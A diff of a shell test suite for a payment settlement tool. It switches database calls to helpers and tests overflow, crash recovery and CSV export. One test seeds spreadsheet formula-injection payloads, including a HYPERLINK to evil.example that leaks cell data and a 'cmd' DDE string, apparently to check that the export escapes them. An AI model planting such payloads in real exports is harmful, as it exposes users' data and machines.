@@ -219,22 +219,27 @@ field() { # field JSON KEY
 	wpay-order create cafe01 a1 --amount 10000000000000.00 |
 		wpay-pay --buyer u:1002 --source card --pin-fd 3 3<<<135790 >/dev/null
 	wpay-refund cafe01 a1 r1 --amount 10000000000000.00 >/dev/null
-	sqlite3 "$WPAY_DB" <<-'SQL'
+	# (Copies of rows whose orders are not there: without foreign keys.)
+	db_sql_nofk <<-'SQL'
 		WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9300)
-		INSERT INTO payments SELECT id || '_' || i, order_id || '_' || i, merchant_id, wallet_id, buyer,
+		INSERT INTO payments (id, order_id, merchant_id, wallet_id, buyer, source_account, amount, fee, currency,
+		    created_at, settlement_id)
+		SELECT id || '_' || i, order_id || '_' || i, merchant_id, wallet_id, buyer,
 		    source_account, amount, fee, currency, created_at, NULL FROM payments, n WHERE merchant_id = 'cafe01';
 		WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9300)
-		INSERT INTO refunds SELECT id || '_' || i, order_id || '_' || i, payment_id || '_' || i, merchant_id,
+		INSERT INTO refunds (id, order_id, payment_id, merchant_id, out_request_no, amount, fee_returned, funded_from,
+		    reason, created_at, settlement_id)
+		SELECT id || '_' || i, order_id || '_' || i, payment_id || '_' || i, merchant_id,
 		    out_request_no, amount, fee_returned, funded_from, reason, created_at, NULL FROM refunds, n;
 	SQL
 	export WPAY_NOW=2026-11-06T02:00:00Z
-	before=$(sqlite3 "$WPAY_DB" 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')
+	before=$(db_sql 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')
 	run --separate-stderr wpay-settle --date 2026-11-05
 	assert_failure 1
 	assert_equal "$(jq -c '[.type, .code, .ref]' <<<"${lines[0]}")" '["error","sum_overflow",null]'
 	assert_equal "$(jq -c '[.merchant, .payments]' <<<"${lines[1]}")" '["m:shop02",1]'
 	assert_equal "${stderr_lines[0]}" "wpay-settle: m:cafe01's 9301 payments and 9301 refunds due by 2026-10-20T16:00:00Z add up past what one settlement can hold (9223372036854775807 minor units); settle an earlier --date first, so that fewer fall due at once"
-	assert_equal "$(sqlite3 "$WPAY_DB" 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')" $((before - 1))
+	assert_equal "$(db_sql 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')" $((before - 1))
 	assert_ledger_ok
 }
 
@@ -330,13 +335,15 @@ m:cafe01,6222000011112222,99.40,CNY,$sid"
 	pay shop03 o1 30.00
 	wpay-refund cafe01 o1 r1 --amount 10.00 >/dev/null
 	# Values stored before they were checked where they enter: old data, put in directly.
-	sqlite3 "$WPAY_DB" <<-'SQL'
+	# (A tab as the SQL text itself: char(9) is SQLite's, chr(9) PostgreSQL's.)
+	tab=$'\t'
+	db_sql <<-SQL
 		UPDATE merchants SET bank_account = '=HYPERLINK("http://evil.example/?"&A1,"Click")' WHERE id = 'cafe01';
 		UPDATE merchants SET bank_account = '@SUM(1)' WHERE id = 'shop02';
 		UPDATE merchants SET bank_account = '+1' WHERE id = 'shop03';
 		UPDATE orders SET out_trade_no = '-2+3+cmd|'' /C calc''!A0' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o1';
 		UPDATE orders SET out_trade_no = 'a,"b";c' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o2';
-		UPDATE orders SET out_trade_no = char(9) || '=1+1' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o3';
+		UPDATE orders SET out_trade_no = '$tab=1+1' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o3';
 	SQL
 	export WPAY_NOW=2026-11-05T01:00:00Z
 	out="$BATS_TEST_TMPDIR/out"
@@ -379,12 +386,12 @@ m:cafe01,6222000011112222,99.40,CNY,$sid"
 	export WPAY_NOW=2026-11-05T01:00:00Z
 	run --separate-stderr env WPAY_CRASH=settle:2 wpay-settle --batch-size 1
 	assert_failure 137
-	assert_equal "$(sqlite3 "$WPAY_DB" 'SELECT merchant_id FROM settlements')" cafe01
+	assert_equal "$(db_sql 'SELECT merchant_id FROM settlements')" cafe01
 	assert_ledger_ok
 	run --separate-stderr wpay-settle
 	assert_success
 	assert_equal "$(jq -sc 'map(.merchant)' <<<"$output")" '["m:cafe01","m:shop02"]'
-	assert_equal "$(sqlite3 "$WPAY_DB" 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')" 0
+	assert_equal "$(db_sql 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')" 0
 	assert_ledger_ok
 }
 
